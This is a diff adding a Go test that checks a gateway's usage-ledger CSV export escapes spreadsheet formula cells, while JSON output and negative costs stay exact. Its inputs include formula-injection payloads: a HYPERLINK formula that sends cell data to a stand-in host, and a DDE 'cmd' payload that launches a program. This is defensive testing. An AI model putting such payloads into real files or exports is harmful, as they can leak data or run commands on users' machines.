@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"regexp"
@@ -275,6 +276,80 @@ func TestLedgerCSVHoldsOneMonth(t *testing.T) {
 	for _, q := range []string{"month=2026-4", "month=april", "month=2026-04-01", "from=2026-04"} {
 		if rec := f.get(t, f.ro, "/v1/usage/ledger.csv?"+q); rec.Code != 400 {
 			t.Errorf("%s: %d", q, rec.Code)
+		}
+	}
+}
+
+// A text cell of the CSV that a spreadsheet would run as a formula
+// (starting with =, +, -, @, tab or CR) gets a leading '; other text, and
+// the numbers the gateway writes (a negative cost among them), are as they
+// were; the JSON ledger keeps every string exact.
+func TestLedgerCSVFormulas(t *testing.T) {
+	f := setup(t)
+	ctx := context.Background()
+	_, k, err := f.st.CreateKey(ctx, f.acct, store.ModelKey, store.KeyOptions{Label: "@SUM(A1:A9)"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	models := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, `+cmd|' /C calc'!A0`, "-2+3", "@SUM(1+1)",
+		"\t=1+1", "\r=1+1", "plain-model", "a=b", ""}
+	for i, m := range models {
+		req := fmt.Sprintf("r%d", i)
+		if d, err := f.st.Admit(ctx, store.Admission{RequestID: req, AccountID: f.acct, KeyID: k.ID, Priced: "m", Hold: 1000}); err != nil || d.Outcome != store.Admitted {
+			t.Fatalf("admit: %+v %v", d, err)
+		}
+		if _, err := f.st.Settle(ctx, store.Settlement{RequestID: req, AccountID: f.acct, KeyID: k.ID,
+			Requested: usage.RequestedModel(m), Priced: usage.PricedModel(m), Reported: usage.ReportedModel(m), Status: 200, Cost: 123,
+			StartedAt: f.clk.Now(), EndedAt: f.clk.Now()}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rec := f.get(t, f.ro, "/v1/usage/ledger.csv?month=2026-03")
+	rows, err := csv.NewReader(rec.Body).ReadAll()
+	if err != nil || rec.Code != 200 || len(rows) != len(models)+1 {
+		t.Fatalf("%d, %d rows, %v", rec.Code, len(rows), err)
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	for i, m := range models {
+		want := m
+		if m != "" && strings.ContainsAny(m[:1], "=+-@\t\r") {
+			want = "'" + m
+		}
+		r := rows[i+1]
+		for _, c := range []string{"model", "model_requested", "model_reported"} {
+			if r[col[c]] != want {
+				t.Errorf("%s of %q: %q, want %q", c, m, r[col[c]], want)
+			}
+		}
+		for c, want := range map[string]string{"key_label": "'@SUM(A1:A9)", "key_id": k.ID, "request_id": fmt.Sprintf("r%d", i),
+			"cost_nano_usd": "123", "cost_usd": "0.000000123", "status": "200"} {
+			if r[col[c]] != want {
+				t.Errorf("%s of %q: %q, want %q", c, m, r[col[c]], want)
+			}
+		}
+	}
+	// A reconciled entry that returns money: its numbers stay numbers.
+	r := csvRow(store.LedgerEntry{ID: "1-0", Settlement: store.Settlement{Cost: -123, Reconciled: true}}, "")
+	if got := strings.Join(r[len(r)-2:], ","); got != "-123,-0.000000123" {
+		t.Errorf("a negative cost is written %s", got)
+	}
+	for _, c := range []rune{'=', '+', '-', '@', '\t', '\r'} {
+		if got := csvText(string(c) + "x"); got != "'"+string(c)+"x" {
+			t.Errorf("csvText(%q) = %q", string(c)+"x", got)
+		}
+	}
+
+	p := decode[LedgerPage](t, f.get(t, f.ro, "/v1/usage/ledger?limit=100"))
+	if len(p.Entries) != len(models) {
+		t.Fatalf("%d JSON entries", len(p.Entries))
+	}
+	for _, e := range p.Entries {
+		m := models[e.RequestID[1]-'0']
+		if e.Model != m || e.ModelRequested != m || e.ModelReported != m || e.KeyLabel != "@SUM(A1:A9)" || e.CostNanoUSD != 123 {
+			t.Errorf("JSON entry %s: %q %q %q %q %d, want %q exact", e.RequestID, e.Model, e.ModelRequested, e.ModelReported, e.KeyLabel, e.CostNanoUSD, m)
 		}
 	}
 }
